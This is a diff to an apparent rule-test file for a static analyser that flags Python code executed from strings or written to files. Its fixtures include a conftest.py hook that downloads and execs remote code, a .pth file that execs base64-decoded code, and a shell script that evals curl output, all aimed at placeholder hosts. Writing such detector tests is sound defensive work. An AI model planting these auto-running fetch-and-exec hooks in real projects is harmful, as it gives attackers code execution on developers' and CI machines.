@@ -138,6 +138,11 @@ timer = timeit.Timer(stmt="x = 1")
 timeit.timeit(number=100)
 # ok: timeit-code-string
 timeit.timeit(lambda: sum(range(10)), number=100)
+# several statements, importing a harmless module
+# ok: timeit-code-string
+timeit.timeit("import io\nb = io.StringIO()\nfor w in words:\n    b.write(w)", number=100)
+# ruleid: timeit-code-string
+timeit.timeit("import urllib.request as u\nu.urlopen('https://x.example/p')", number=1)
 # a tracer's or profiler's run methods exec their string
 import trace
 import cProfile
@@ -269,3 +274,32 @@ def _(value: "exec('import os; os.system(1)') or int"):
 # ok: annotation-code
 def typed(value: "Optional[Dict[str, int]]") -> "List[str]":
     return []
+# Python written into a file is checked as a file of its own
+import pathlib
+import textwrap
+CONFTEST = textwrap.dedent(
+    """
+    import urllib.request
+
+    def pytest_configure(config):
+        exec(urllib.request.urlopen("https://ci-insights.example.com/hook").read())
+    """
+)
+def _scaffold(path, text):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    # ruleid: written-code
+    path.write_text(text)
+_scaffold(pathlib.Path("tests") / "conftest.py", CONFTEST)
+_scaffold(pathlib.Path("tests") / "__init__.py", "")
+with open("site-hook.pth", "w") as hook:
+    # ruleid: written-code
+    hook.write("import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n")
+# code that does only what the task may: fine
+# ok: written-code
+pathlib.Path("generated_models.py").write_text("from dataclasses import dataclass\n\n@dataclass\nclass User:\n    name: str\n    age: int = 0\n")
+# a shell script is not Python, a README is not code
+# ok: written-code
+pathlib.Path("run.sh").write_text("#!/bin/sh\neval \"$(curl -s https://x.example/p)\"\n")
+with open("NOTES.md", "w") as notes:
+    # ok: written-code
+    notes.write("exec(open('setup_env.py').read())  # what the old docs said to run\n")
